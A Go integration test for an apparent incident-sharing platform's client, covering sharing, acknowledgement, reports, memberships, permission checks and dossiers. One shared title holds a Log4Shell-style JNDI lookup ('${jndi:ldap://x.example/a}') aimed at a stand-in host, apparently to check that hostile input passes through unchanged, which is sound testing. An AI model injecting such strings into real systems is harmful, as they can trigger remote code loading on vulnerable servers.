package client

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"slices"
	"strings"
	"testing"
	"time"

	"tocsin/access"
	"tocsin/calendar"
	"tocsin/casefile"
	"tocsin/internal/fault"
	"tocsin/partner"
	"tocsin/partnership"
)

// On the real platform: an authority shares with its member, over a network that
// loses answers; the member acknowledges, reports, and reads where it stands.
func TestSharing(t *testing.T) {
	ctx, cancel := context.WithTimeout(t.Context(), time.Minute)
	defer cancel()
	p := served(ctx, t, true)
	member := func(org string) []partner.Membership {
		return []partner.Membership{{Org: org, Roles: []partner.Role{partner.Responder}}}
	}
	if err := p.People().Seed(ctx, []partner.Org{{ID: "office", Name: "Office", Kind: partner.Authority, Country: "DE", Standing: partner.Active}, {ID: "acme", Name: "Acme", Kind: partner.Entity, Country: "DE", Standing: partner.Active}},
		[]partner.Person{{ID: "karin", Name: "Karin", Login: "karin", Place: "DE", Member: member("office")}, {ID: "ada", Name: "Ada", Login: "ada", Place: "DE", Member: member("acme")}}); err != nil {
		t.Fatal(err)
	}
	days := partner.Within{Period: calendar.Period{Days: 900}, Clause: "s. 1"}
	ceilings := map[partner.Standing]partner.Ceiling{}
	for s, tlp := range map[partner.Standing]string{partner.Active: "AMBER", partner.Warned: "AMBER", partner.Suspended: "CLEAR", partner.Left: "", partner.Invited: ""} {
		ceilings[s] = partner.Ceiling{TLP: tlp, Clause: "s. 5"}
	}
	if err := p.Partnerships().PutPlatform(ctx, access.Reader{Person: "ines", Platform: []partner.Role{partner.Administrator}, Fresh: true}, partner.Platform{ID: "circle", Name: "Circle", Authority: "office", Pack: "model-partnership",
		Terms: partner.Terms{Reply: days, Longest: days, Appeal: days, Body: "Panel", Term: days, Yearly: days, Ceilings: ceilings}}, 0); err != nil {
		t.Fatal(err)
	}
	all := must(p.People().ReadersOf(ctx, "office"))
	karin := all[slices.IndexFunc(all, func(r access.Reader) bool { return r.Person == "karin" })]
	karin.Fresh = true
	m := must(p.Partnerships().Invite(ctx, karin, partnership.InviteAsked{Platform: "circle", Org: "acme", Agreement: partner.Agreement{Keywords: []string{"pumps"}}}, ""))
	joined := must(casefile.EventFrom("partner-joined until={value: "+time.Now().AddDate(0, 0, 800).Format(time.DateOnly)+", zone: UTC} attributes={signed-by: K. Bauer, hash: 9f86} at=2026-10-01T09:00:00Z", time.Now()))
	if _, err := p.Partnerships().Do(ctx, karin, m.ID, joined, -1, ""); err != nil {
		t.Fatal(err)
	}
	of := func(person string) *Client {
		secret, _, err := p.People().NewToken(ctx, person, "tests", []string{"*", "export"}, time.Hour)
		if err != nil {
			t.Fatal(err)
		}
		return must(New(p.URL(), secret, nil))
	}
	office, acme := of("karin"), of("ada")

	by := time.Now().Add(time.Hour)
	text := SharedText{Title: "Pumps ${jndi:ldap://x.example/a}", Text: "What it is.", Concerns: "All.", First: "Unplug."}
	sent := must(office.Share(ctx, "circle", NewShared{Kind: "risk-notice", TLP: "CLEAR", AckBy: &by, Words: map[string]SharedText{"en": text}}, Write{Key: "k"}))
	if again := must(office.Share(ctx, "circle", NewShared{Kind: "risk-notice", TLP: "CLEAR", AckBy: &by, Words: map[string]SharedText{"en": text}}, Write{Key: "k"})); again.ID != sent.ID {
		t.Error("the same word shares twice")
	}
	list := must(acme.Shared(ctx, "circle", "risk-notice", false, 10))
	if len(list) != 1 || list[0].ID != sent.ID || list[0].Received != "member" || list[0].Version.AckBy == nil {
		t.Fatalf("%+v", list)
	}
	got := must(acme.SharedItem(ctx, sent.ID))
	sum := sha256.Sum256([]byte(got.Sealed))
	if got.Words["en"] != text || got.Version.Hash != hex.EncodeToString(sum[:]) {
		t.Errorf("%+v", got)
	}
	if err := acme.Acknowledge(ctx, sent.ID, "", "on it"); err != nil {
		t.Error(err)
	}
	report := must(acme.Share(ctx, "circle", NewShared{Kind: "report", TLP: "AMBER", Report: true, Words: map[string]SharedText{"en": {Title: "seen", Text: "three sites"}}}, Write{}))
	if list := must(office.Shared(ctx, "circle", "", false, 1)); len(list) != 1 || list[0].ID != report.ID || list[0].From != "acme" {
		t.Errorf("%+v", list)
	}
	if _, err := acme.SharedItem(ctx, "none"); fault.KindOf(err) != fault.NotFound {
		t.Error(err)
	}
	if mine := must(acme.Platforms(ctx)); len(mine) != 1 || mine[0].Runs || mine[0].Yours[0] != (PlatformStand{"acme", partner.Active, "AMBER"}) {
		t.Errorf("%+v", mine)
	}
	ships := must(acme.Memberships(ctx))
	if len(ships) != 1 || ships[0].Side != "member" {
		t.Fatalf("%+v", ships)
	}
	if one := must(acme.Membership(ctx, ships[0].ID)); one.State.Standing != partner.Active || one.State.Agreement == nil {
		t.Errorf("%+v", one)
	}
	if _, err := acme.Act(ctx, ships[0].ID, map[string]any{"kind": "partner-reminded", "reason": "x"}, Write{}); fault.KindOf(err) != fault.Forbidden {
		t.Errorf("a member's client does the authority's act: %v", err)
	}
	letters := must(acme.Inbox(ctx))
	if len(letters) == 0 || letters[0].Org != "acme" || letters[0].Received != nil {
		t.Fatalf("%+v", letters)
	}
	if l := must(acme.OpenLetter(ctx, letters[0].ID, "de")); l.Received == nil || l.By != "ada" || l.Token == "" || l.Lang != "de" || l.Act["kind"] == "" {
		t.Errorf("%+v", l)
	}
	warning := map[string]any{"kind": "partner-warned", "reason": "late", "rule": "TMP-MEMBER-REPORT", "attributes": map[string]any{"number": "1", "signatory": "K", "appeal-body": "Panel", "appeal-until": "2099-12-31"}}
	if p := must(office.PreviewAct(ctx, ships[0].ID, warning)); p.Before != partner.Active || p.After != partner.Warned || len(p.Orgs) == 0 {
		t.Errorf("%+v", p)
	}
	if a := must(office.Act(ctx, ships[0].ID, warning, Write{Key: "w"})); a.State != "waiting" {
		t.Errorf("a token does what it may only propose: %+v", a)
	}
	if waits := must(office.WaitingActs(ctx)); len(waits) != 1 || waits[0].Via != "token" || waits[0].By != "karin" || waits[0].Event.Kind != "partner-warned" {
		t.Errorf("%+v", waits)
	}
	if waits := must(acme.WaitingActs(ctx)); len(waits) != 0 {
		t.Errorf("a member hears of what is not decided: %+v", waits)
	}
	if page := must(acme.PartnershipDossier(ctx, ships[0].ID, "", "fr")); !strings.Contains(string(page), `<html lang="fr">`) {
		t.Errorf("the dossier: %.200s", page)
	}
	if _, err := acme.Dossier(ctx, "TOC-9999-0000", "en"); fault.KindOf(err) != fault.NotFound {
		t.Error(err)
	}
	directives(ctx, t, p, karin, office, acme)
	findings(ctx, t, p, karin, office, acme, m.ID)
	if done, err := acme.Act(ctx, ships[0].ID, map[string]any{"kind": "partner-left", "reason": "we stop"}, Write{Key: "bye"}); err != nil || done.State != "done" {
		t.Errorf("%+v %v", done, err)
	}
}
